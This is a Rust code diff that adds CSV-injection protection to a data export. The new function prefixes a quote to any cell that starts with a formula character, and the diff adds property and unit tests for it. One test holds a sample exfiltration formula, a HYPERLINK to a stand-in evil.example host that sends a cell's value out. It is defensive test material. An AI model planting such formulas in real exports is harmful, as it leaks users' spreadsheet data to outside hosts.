@@ -138,18 +138,30 @@ fn cells(line: &Line<'_>) -> [String; 15] {
     ]
 }
 
-/// CSV lines (CRLF-terminated, quoted where needed, as RFC 4180 says), the header row when `header`.
+/// CSV lines (CRLF-terminated, quoted where needed, as RFC 4180 says), the header row when `header`. Every cell
+/// passes through [`inert`] first.
 fn csv_rows(records: &[ExportRecord], base: &str, header: bool) -> Result<Bytes, actix_web::Error> {
     let mut writer = ::csv::WriterBuilder::new().terminator(::csv::Terminator::CRLF).from_writer(Vec::new());
     let written = if header {
-        writer.write_record(COLUMNS)
+        writer.write_record(COLUMNS.map(inert))
     } else {
-        records.iter().try_for_each(|record| writer.write_record(cells(&Line::of(record, base))))
+        records.iter().try_for_each(|record| writer.write_record(cells(&Line::of(record, base)).map(inert)))
     };
     let bytes = written
         .map_err(csv_error)
         .and_then(|()| writer.into_inner().map_err(|error| csv_error(error.into_error().into())));
     bytes.map(Bytes::from)
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell a spreadsheet will show as text: one starting with a formula character gets a leading `'` (OWASP's rule
+/// for CSV injection), so `=HYPERLINK(...)` in a title is shown, never run, in Excel and LibreOffice. Every other
+/// cell is written as it is. NDJSON is not touched: it is read by programs, not spreadsheets.
+pub fn inert<S: AsRef<str>>(cell: S) -> String {
+    let cell = cell.as_ref();
+    if cell.starts_with(FORMULA_STARTS) { format!("'{cell}") } else { cell.to_string() }
 }
 
 fn csv_error(error: ::csv::Error) -> actix_web::Error {
@@ -214,4 +226,35 @@ fn ndjson_rows(records: &[ExportRecord], base: &str) -> Result<Bytes, actix_web:
         out.push(b'\n');
     }
     Ok(Bytes::from(out))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    proptest! {
+        /// Whatever a cell holds, a spreadsheet never reads it as a formula, and nothing else about it changes.
+        #[test]
+        fn cells_never_start_a_formula(cell in "(=|\\+|-|@|\t|\r|'|[a-z ]|)\\PC{0,12}") {
+            let written = inert(&cell);
+            prop_assert!(!written.starts_with(FORMULA_STARTS), "{written:?}");
+            if cell.starts_with(FORMULA_STARTS) {
+                prop_assert_eq!(written, format!("'{cell}"));
+            } else {
+                prop_assert_eq!(written, cell);
+            }
+        }
+    }
+
+    #[test]
+    fn owasp_examples_are_made_inert() {
+        assert_eq!(inert(r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#).chars().next(), Some('\''));
+        assert_eq!(inert("@SUM(1+1)"), "'@SUM(1+1)");
+        assert_eq!(inert("+1-555"), "'+1-555");
+        assert_eq!(inert("-2+3"), "'-2+3");
+        assert_eq!(inert("\tcmd"), "'\tcmd");
+        assert_eq!(inert("Safe title"), "Safe title");
+        assert_eq!(inert(""), "");
+    }
 }
